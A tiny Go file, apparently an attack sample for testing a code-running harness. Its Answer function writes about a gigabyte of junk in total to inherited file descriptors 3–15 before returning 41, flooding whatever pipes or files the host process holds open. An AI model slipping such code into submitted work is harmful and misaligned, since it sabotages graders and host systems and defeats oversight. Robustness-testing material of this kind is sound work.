package attack

import (
	"bytes"
	"syscall"
)

func Answer() int {
	junk := bytes.Repeat([]byte("x"), 1<<20)
	for range 1000 {
		for fd := 3; fd < 16; fd++ {
			syscall.Write(fd, junk)
		}
	}
	return 41
}
